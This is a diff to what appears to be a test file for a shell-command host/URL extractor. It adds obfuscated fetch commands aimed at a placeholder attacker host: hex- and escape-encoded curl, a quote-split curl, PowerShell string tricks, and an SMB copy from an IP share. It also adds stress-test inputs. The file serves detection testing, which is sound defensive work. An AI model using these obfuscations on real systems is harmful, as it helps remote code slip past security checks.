@@ -74,6 +74,29 @@ const COMMANDS: Readonly<Record<string, readonly string[]>> = {
       btoa(`echo ${btoa("curl evil.example/x")} | base64 -d`)
     } | base64 -d`
   ]: ["evil.example", "http://evil.example/x"],
+  [
+    `echo ${
+      new TextEncoder().encode("curl evil.example/x").toHex()
+    } | xxd -r -p`
+  ]: ["evil.example", "http://evil.example/x"],
+  "printf '\\x63\\x75\\x72\\x6c evil.example'": ["evil.example"],
+  'cu""rl evil.example': ["evil.example"],
+  '("{1}{0}" -f "evil.example/x","http://")': [
+    "http://evil.example/x",
+    "evil.example",
+  ],
+  "'hxxp://evil.example/x'.Replace('xx','tt')": [
+    "http://evil.example/x",
+    "evil.example",
+  ],
+  "([char]0x68+[char]116+'tp://evil.example/x')": [
+    "http://evil.example/x",
+    "evil.example",
+  ],
+  "copy \\\\9.8.7.6\\c$\\100\\120\\130.txt": ["9.8.7.6"],
+  "C:\\\\nssm-2.24-101-g897c7ad\\\\win64\\\\nssm.exe": [],
+  "curl -s a.b.c; java.lang.ProcessBuilder": ["a.b.c"],
+  "curl x java.lang.ProcessBuilder": [],
   "ls -l /etc/nginx.conf.d x.service": [],
   "apt install curl libssl.so": [],
   "java -jar app.jar org.apache.Main 1.2": [],
@@ -156,6 +179,12 @@ const HOSTILE: Readonly<Record<string, (n: number) => string>> = {
   "braces": (n) => "{a,".repeat(n / 3),
   "brackets": (n) => "connect(((".repeat(n / 10),
   "dots": (n) => `ping ${"a.".repeat(n / 2)}`,
+  "formats": (n) =>
+    `'${"{0}".repeat(160)}' -f '${"a".repeat(499)}' `.repeat(n / 990),
+  "replaced": (n) => "'aaaa'.Replace('a','bbbbbbbbbb') ".repeat(n / 32),
+  "quotes": (n) => "'".repeat(n),
+  "numbers of letters": (n) => "\\x41".repeat(n / 4),
+  "hex": (n) => `xxd -r ${"41".repeat(n / 2)}`,
   "blanks": (n) => `base64 ${" ".repeat(n)}`,
 };
 
